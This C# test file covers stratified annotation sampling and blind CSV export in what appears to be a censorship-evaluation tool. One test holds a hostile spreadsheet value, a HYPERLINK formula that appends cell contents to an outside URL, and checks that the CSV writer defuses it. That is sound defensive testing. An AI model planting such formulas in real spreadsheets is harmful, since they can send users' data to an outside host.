using CensorshipEval.Analysis;
using CensorshipEval.Csv;

namespace CensorshipEval.Tests.Analysis.Annotation;

public sealed class AnnotationSampleTests
{
    private static CancellationToken Cancel => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Every_stratum_gives_its_share_and_says_of_how_many()
    {
        List<Trial> trials = AnnotationTrials.Planted();
        AnnotationSample sample = await Draw(trials, new AnnotationSampleOptions { PerStratum = 7 });
        sample.Strata.Count.ShouldBe(4);
        sample.Strata.Sum(static stratum => stratum.Size).ShouldBe(trials.Count);
        foreach (AnnotationStratum stratum in sample.Strata)
        {
            List<Trial> members = trials.FindAll(trial => trial.Exchange.Prompt.Language == stratum.Language && trial.Verdict.IsHardRefusal == stratum.IsFlagged);
            stratum.Size.ShouldBe(members.Count);
            stratum.Drawn.ShouldBe(Math.Min(7, members.Count));
            AnnotationRow[] rows = [.. sample.Rows.Where(row => row.Stratum == stratum)];
            rows.Length.ShouldBe(stratum.Drawn);
            rows.Select(static row => row.Trial).ShouldBeSubsetOf(members);
            stratum.InclusionProbability.ShouldBe((double)stratum.Drawn / members.Count);
        }

        sample.Rows.Select(static row => row.Id).ShouldBeUnique();
        sample.Rows.Sum(static row => 1 / row.Stratum.InclusionProbability).ShouldBe(trials.Count, 1e-9);
    }

    [Fact]
    public async Task The_draw_depends_on_the_seed_and_not_on_the_order_of_trials()
    {
        List<Trial> trials = AnnotationTrials.Planted();
        string[] one = Ids(await Draw(trials));
        trials.Reverse();
        Ids(await Draw(trials)).ShouldBe(one);
        Ids(await Draw(trials, new AnnotationSampleOptions { Seed = 2 })).Order().ShouldNotBe(one.Order());

        static string[] Ids(AnnotationSample sample) => [.. sample.Rows.Select(static row => row.Id)];
    }

    [Fact]
    public async Task Every_trial_has_the_same_chance()
    {
        Trial[] trials = [.. Enumerable.Range(0, 20).Select(static i => AnnotationTrials.Trial($"f{i}", "en", Engagement.Complete, "x"))];
        var drawn = new int[20];
        for (int seed = 0; seed < 400; seed++)
        {
            foreach (AnnotationRow row in (await Draw(trials, new AnnotationSampleOptions { PerStratum = 5, Seed = seed })).Rows)
                drawn[int.Parse(row.Trial.Exchange.Prompt.FamilyId![1..], null)]++;
        }

        // 100 each, standard deviation 8.7.
        drawn.ShouldAllBe(static times => times > 60 && times < 140);
    }

    [Fact]
    public async Task What_could_not_be_judged_is_left_out_and_counted()
    {
        AnnotationSample sample = await Draw(
        [
            AnnotationTrials.Trial("a", "en", null, "", delivery: Delivery.EmptyStop), AnnotationTrials.Trial("b", "en", Engagement.Undetermined, "?"),
            AnnotationTrials.Trial("c", "en", null, "", delivery: Delivery.InputBlocked),
        ]);
        sample.LeftOut.ShouldBe(2);
        sample.Rows.ShouldHaveSingleItem().Stratum.IsFlagged.ShouldBeTrue();
    }

    [Fact]
    public async Task The_file_does_not_tell_what_the_detector_thinks_unless_asked()
    {
        List<Trial> trials = AnnotationTrials.Planted();
        IReadOnlyList<CsvRow> blind = await Write(trials, new AnnotationSampleOptions());
        blind[0].Cells.ShouldBe(["id", "target", "language", "role", "prompt", "response", "label", "note", "draw"]);
        blind.Skip(1).SelectMany(static row => row.Cells).ShouldNotContain(static cell => cell.Contains("Refused", StringComparison.Ordinal) || cell.Contains("Complete", StringComparison.Ordinal));
        blind.Skip(1).ShouldAllBe(static row => row.Cells[6].Length == 0 && row.Cells[7].Length == 0);
        // Nothing in a row differs between strata: a size or a probability would, and would tell the flagged from the others.
        blind.Skip(1).Select(static row => row.Cells[8]).Distinct().ShouldHaveSingleItem().ShouldMatch("^draw-[0-9a-f]{12}$");
        IReadOnlyList<CsvRow> shown = await Write(trials, new AnnotationSampleOptions { ShowVerdicts = true });
        shown[0].Cells.ShouldContain("engagement");
        shown.Skip(1).ShouldContain(static row => row.Cells.Contains("Refused"));
    }

    [Theory]
    [InlineData(Delivery.InputBlocked, "A block signal came before any")]
    [InlineData(Delivery.OutputBlocked, "A block signal stopped the answer")]
    [InlineData(Delivery.Retracted, "Shown, then withdrawn")]
    [InlineData(Delivery.Truncated, "The length limit cut the answer")]
    public async Task A_block_says_so(Delivery delivery, string expected) =>
        (await Write([AnnotationTrials.Trial("a", "en", delivery is Delivery.Truncated ? Engagement.Complete : null, "some text", delivery: delivery)], new AnnotationSampleOptions()))[1]
            .Cells[5].ShouldContain(expected);

    [Fact]
    public async Task A_hostile_answer_cannot_run_in_a_spreadsheet_or_break_a_row()
    {
        const string Hostile = "=HYPERLINK(\"http://example.org/\"&A1)\r\n\"x\";,\t\u202Eabc\ud83d";
        IReadOnlyList<CsvRow> rows = await Write([AnnotationTrials.Trial("a", "en", Engagement.Complete, Hostile)], new AnnotationSampleOptions { Separator = ';' }, ';');
        rows.Count.ShouldBe(2);
        rows[1].Cells.Count.ShouldBe(9);
        rows[1].Cells[5].ShouldBe("'=HYPERLINK(\"http://example.org/\"&A1)\n\"x\";,\t\\u202Eabc\\uD83D");
    }

    [Fact]
    public async Task Nothing_gives_a_file_of_column_names() => (await Write([], new AnnotationSampleOptions())).Count.ShouldBe(1);

    [Theory]
    [InlineData(0, ',')]
    [InlineData(5, '|')]
    public async Task Options_out_of_range_are_refused(int perStratum, char separator) =>
        await Should.ThrowAsync<ArgumentException>(() => Draw([], new AnnotationSampleOptions { PerStratum = perStratum, Separator = separator }));

    private static Task<AnnotationSample> Draw(IEnumerable<Trial> trials, AnnotationSampleOptions? options = null) =>
        AnnotationSample.DrawAsync(trials.ToAsyncEnumerable(), options, Cancel);

    private static async Task<IReadOnlyList<CsvRow>> Write(IEnumerable<Trial> trials, AnnotationSampleOptions options, char separator = ',')
    {
        DirectoryInfo folder = Directory.CreateTempSubdirectory("annotation");
        string path = Path.Combine(folder.FullName, "f.csv");
        try
        {
            await (await Draw(trials, options)).WriteCsvAsync(path, Cancel);
            byte[] bytes = await File.ReadAllBytesAsync(path, Cancel);
            bytes.AsSpan(0, 3).SequenceEqual<byte>([0xEF, 0xBB, 0xBF]).ShouldBeTrue();
            var errors = new List<InputError>();
            List<CsvRow> rows = [.. CsvReader.Read(await File.ReadAllTextAsync(path, Cancel), separator, "f", errors)];
            errors.ShouldBeEmpty();
            return rows;
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }
}
